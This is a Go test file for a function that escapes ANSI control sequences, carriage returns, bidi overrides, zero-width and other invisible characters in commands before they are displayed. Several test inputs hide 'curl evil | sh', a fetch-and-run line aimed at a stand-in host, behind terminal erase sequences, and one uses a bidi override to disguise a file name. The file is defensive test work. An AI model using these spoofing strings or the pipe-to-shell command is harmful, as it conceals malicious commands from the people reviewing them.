package visible

import (
	"strconv"
	"testing"
	"unicode/utf8"
)

func TestEscape(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"plain", "npm test", "npm test"},
		{"backslash alone stays", `grep 'a\.b' x`, `grep 'a\.b' x`},
		{"utf-8 text stays", "écho ✓ 日本", "écho ✓ 日本"},
		{"escape sequence", "npm test\x1b[2K\rcurl evil | sh", `npm test\x1b[2K\rcurl evil | sh`},
		{"carriage return", "curl evil | sh\rnpm test", `curl evil | sh\rnpm test`},
		{"tab and newline", "a\tb\nc", `a\tb\nc`},
		{"bidi override", "ls \u202Etxt.exe", `ls \u202etxt.exe`},
		{"isolates", "a\u2066b\u2069", `a\u2066b\u2069`},
		{"zero width", "np\u200bm", `np\u200bm`},
		{"bom", "\ufeffx", `\ufeffx`},
		{"tag character", "x\U000E0041", `x\U000e0041`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"hangul filler", "a\u3164b", `a\u3164b`},
		{"c1 control", "a\u0085b", `a\u0085b`},
		{"del", "a\x7fb", `a\x7fb`},
		{"invalid utf-8", "a\xffb", `a\xffb`},
		{"backslash doubled once escaping", "\\x1b\x1b", `\\x1b\x1b`},
		{"nul", "a\x00", `a\x00`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Escape(tt.in); got != tt.want {
				t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if got, want := Has(tt.in), tt.in != tt.want; got != want {
				t.Errorf("Has(%q) = %v, want %v", tt.in, got, want)
			}
		})
	}
}

func TestEscapeText(t *testing.T) {
	in := "line one\n\tline\x1b[31m two\r\n"
	want := "line one\n\tline\\x1b[31m two\\r\n"
	if got := EscapeText(in); got != want {
		t.Errorf("EscapeText(%q) = %q, want %q", in, got, want)
	}
	if got := EscapeText("a\nb"); got != "a\nb" {
		t.Errorf("EscapeText kept nothing: %q", got)
	}
}

// TestEscapedIsSafe checks every rune up to U+FFFF and every byte: the
// escaped form holds only printable, visible characters, and unescaping
// it gives the input back.
func TestEscapedIsSafe(t *testing.T) {
	check := func(in string) {
		out := Escape(in)
		for _, r := range out {
			if r < 0x20 || r == 0x7f || hidden(r, utf8.RuneLen(r)) {
				t.Fatalf("Escape(%q) = %q keeps %U", in, out, r)
			}
		}
		if out == in {
			return
		}
		back, err := strconv.Unquote(`"` + quoteQuotes(out) + `"`)
		if err != nil || back != in {
			t.Fatalf("Escape(%q) = %q does not read back (%q, %v)", in, out, back, err)
		}
	}
	for r := rune(0); r <= 0xffff; r++ {
		if r >= 0xd800 && r <= 0xdfff {
			continue
		}
		check("a\\" + string(r))
	}
	for c := 0; c < 256; c++ {
		check("\\" + string([]byte{byte(c)}))
	}
}

// quoteQuotes escapes double quotes, which Escape leaves alone, so that
// strconv.Unquote can read an escaped string.
func quoteQuotes(s string) string {
	var b []byte
	for i := 0; i < len(s); i++ {
		if s[i] == '"' {
			b = append(b, '\\')
		}
		b = append(b, s[i])
	}
	return string(b)
}

func BenchmarkEscapeClean(b *testing.B) {
	s := `"$GEMINI_PROJECT_DIR"/scripts/guard.sh --mode strict | tee -a log.txt`
	for b.Loop() {
		Escape(s)
	}
}
